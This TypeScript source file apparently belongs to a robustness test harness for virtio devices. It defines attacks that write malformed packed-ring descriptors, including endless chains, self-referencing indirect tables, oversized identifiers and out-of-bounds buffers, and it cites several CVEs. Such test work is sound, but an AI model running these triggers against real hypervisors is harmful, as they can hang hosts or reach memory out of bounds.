import { DescFlag } from "../../../catalogue/queues.js";
import { DriverError } from "../driver-error.js";
import { PackedDriverQueue } from "../packed-driver-queue.js";
import type { RawPackedRing } from "../raw-packed-ring.js";
import type { Attack, AttackOutcome } from "./attack.js";
import { AttackScene, farRegionEnd, type SceneOptions } from "./attack-scene.js";

const { Next, Write, Indirect, Avail, Used } = DescFlag;
const size = 7;

type Script = (scene: AttackScene, raw: RawPackedRing) => void;

/** An attack that writes a packed ring and kicks. */
function ringAttack(
  name: string,
  cases: readonly string[],
  does: string,
  script: Script,
  holds: readonly AttackOutcome[] = ["needs-reset"],
  options: SceneOptions = {},
): Attack {
  return {
    name: `packed: ${name}`,
    class: cases,
    does,
    holds,
    run(target) {
      const scene = new AttackScene(target, { packed: true, size, ...options });
      const { ring } = scene.queue;
      if (!(ring instanceof PackedDriverQueue)) {
        scene.close();
        throw new DriverError("unsupported", "the attack needs a packed ring");
      }
      script(scene, ring.raw);
      return scene.observe(() => isUsed(ring.raw));
    },
  };
}

function isUsed(raw: RawPackedRing): boolean {
  return (raw.flags(0) & (Avail | Used)) === (Avail | Used);
}

export const packedAttacks: readonly Attack[] = [
  ringAttack(
    "chain over the whole ring and on",
    ["CVE-2026-16457", "OpenVMM 3990"],
    "NEXT in every descriptor of the ring",
    (scene, raw) => {
      for (let index = size - 1; index >= 0; index--) {
        raw.descriptor(index, scene.header, 1, 0, Avail | Next);
      }
    },
  ),
  ringAttack(
    "chain of the whole ring",
    ["OpenVMM 3990"],
    "a good chain of as many descriptors as the ring has, where the wrap counter flips",
    (scene, raw) => {
      raw.descriptor(size - 1, scene.status, 1, 3, Avail | Write);
      for (let index = size - 2; index > 0; index--) {
        raw.descriptor(
          index,
          scene.data + 512 * index,
          index === 1 ? 512 : 0,
          3,
          Avail | Next | Write,
        );
      }
      raw.descriptor(0, scene.header, 16, 3, Avail | Next);
    },
    ["answered"],
  ),
  ringAttack(
    "both laps available at once",
    ["CVE-2026-16457", "CVE-2016-5403"],
    "single chains that are made available again before they were used",
    (scene, raw) => {
      for (let index = size - 1; index >= 0; index--) {
        raw.descriptor(index, scene.header, 16, index, Avail);
      }
      scene.queue.kick();
      for (let round = 0; round < 2000; round++) {
        const lap = round % 2 === 0 ? Used : Avail;
        for (let index = 0; index < size; index++) {
          raw.descriptor(index, scene.header, 16, index, lap);
        }
      }
    },
    ["answered", "needs-reset", "ignored"],
    { inOrder: true },
  ),
  ringAttack(
    "identifier beyond the ring",
    ["id"],
    "a good chain with the identifier 0xffff",
    (scene, raw) => {
      raw.descriptor(1, scene.status, 1, 0xffff, Avail | Write);
      raw.descriptor(0, scene.header, 16, 0xffff, Avail | Next);
    },
    ["answered"],
  ),
  ringAttack(
    "indirect descriptor inside a chain",
    ["order"],
    "INDIRECT behind a NEXT",
    (scene, raw) => {
      raw.descriptor(1, scene.table, 16, 0, Avail | Indirect);
      raw.descriptor(0, scene.header, 16, 0, Avail | Next);
    },
  ),
  ringAttack(
    "indirect table in an indirect table",
    ["v86 host hang"],
    "a table whose entry is the table",
    (scene, raw) => {
      scene.writeDescriptor(scene.table, scene.table, 16, 0, Indirect);
      raw.descriptor(0, scene.table, 16, 0, Avail | Indirect);
    },
  ),
  ...[0, 24, 16 * 1025].map((length) =>
    ringAttack(
      `indirect table of ${length} bytes`,
      ["table length"],
      "a table of no whole, or too many, descriptors",
      (scene, raw) => raw.descriptor(0, scene.table, length, 0, Avail | Indirect),
    ),
  ),
  ringAttack(
    "buffer beyond a region's end",
    ["CVE-2019-18960"],
    "512 bytes that start 511 before the end of memory",
    (_scene, raw) => raw.descriptor(0, farRegionEnd - 511, 512, 0, Avail | Write),
  ),
  ringAttack(
    "event area of noise",
    ["event suppression"],
    "a good request, and a driver event area with reserved flags and a position beyond the ring",
    (scene, raw) => {
      raw.driverEvent(0xffff, 0xffff);
      raw.descriptor(1, scene.status, 1, 0, Avail | Write);
      raw.descriptor(0, scene.header, 16, 0, Avail | Next);
    },
    ["answered"],
  ),
];
